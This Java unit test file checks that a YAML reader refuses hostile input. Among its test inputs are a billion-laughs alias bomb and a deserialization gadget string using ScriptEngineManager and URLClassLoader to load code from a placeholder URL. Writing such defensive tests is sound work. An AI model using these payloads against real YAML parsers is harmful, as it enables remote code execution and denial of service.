package io.rulescope.ingest.read;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;

import org.junit.jupiter.api.Test;

class YamlReaderTest {

    private final YamlReader reader = new YamlReader(1 << 20);

    private YamlReader.Parsed parse(String text) {
        return reader.parse(text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void anAliasBombIsRefusedInsteadOfExpanded() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p)
                    .append(",*").append(p).append(",*").append(p).append(",*").append(p).append("]\n");
        }
        YamlReader.Parsed parsed = parse(bomb.toString());

        assertThat(parsed.failed()).isTrue();
        assertThat(parsed.failure().reason()).containsIgnoringCase("alias");
    }

    @Test
    void aGlobalTagCannotInstantiateAClass() {
        YamlReader.Parsed parsed = parse("title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");

        assertThat(parsed.failed()).isTrue();
        assertThat(parsed.failure().reason()).contains("unsupported tag").contains("plain YAML types");
        assertThat(parsed.failure().line()).isEqualTo(1);
    }

    @Test
    void deepNestingIsRefused() {
        YamlReader.Parsed parsed = parse("a: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n");

        assertThat(parsed.failed()).isTrue();
        assertThat(parsed.failure().reason()).containsIgnoringCase("nest");
    }

    @Test
    void invalidUtf8IsReportedAsNotText() {
        YamlReader.Parsed parsed = reader.parse(new byte[] { 'a', ':', '1', '\n', 't', ':', ' ', (byte) 0xC3, (byte) 0x28 });

        assertThat(parsed.failed()).isTrue();
        assertThat(parsed.failure().reason()).contains("not valid UTF-8");
        assertThat(parsed.failure().line()).isEqualTo(2);
    }

    @Test
    void utf16WithAByteOrderMarkIsRead() {
        byte[] utf16 = "\uFEFFtitle: x\n".getBytes(StandardCharsets.UTF_16BE);

        YamlReader.Parsed parsed = reader.parse(utf16);

        assertThat(parsed.failed()).isFalse();
        assertThat(parsed.documents()).hasSize(1);
    }

    @Test
    void emptyAndBinaryFilesAreReportedPlainly() {
        assertThat(parse("   \n").failure().reason()).isEqualTo("empty file");
        assertThat(reader.parse(new byte[] { 0, 1, 2, 'a' }).failure().reason()).contains("binary");
    }

    @Test
    void duplicateKeysAreAcceptedWithAWarningAsRuleToolingDoes() {
        YamlReader.Parsed parsed = parse("title: a\ntitle: b\n");

        assertThat(parsed.failed()).isFalse();
        assertThat(parsed.warning()).contains("duplicate key").contains("line 2");
    }

    @Test
    void aFileParsedAfterABrokenOneOnTheSameThreadReadsAsIfAlone() {
        YamlReader.Parsed alone = parse("title: b\nlist: &l [x, y]\nagain: *l\n");
        assertThat(parse("title: a\nbroken: [\n").failed()).isTrue();
        assertThat(parse("a: &a [x]\nb: [*a, *a, " + "[".repeat(100) + "]".repeat(100) + "]\n").failed()).isTrue();

        YamlReader.Parsed after = parse("title: b\nlist: &l [x, y]\nagain: *l\n");

        assertThat(after.failed()).isFalse();
        assertThat(after.warning()).isNull();
        assertThat(after.documents()).isEqualTo(alone.documents());
    }

    @Test
    void filesOverTheSizeLimitAreNotParsed() {
        YamlReader small = new YamlReader(10);

        assertThat(small.parse("title: 0123456789\n".getBytes(StandardCharsets.UTF_8)).failure().reason()).contains("limit");
    }
}
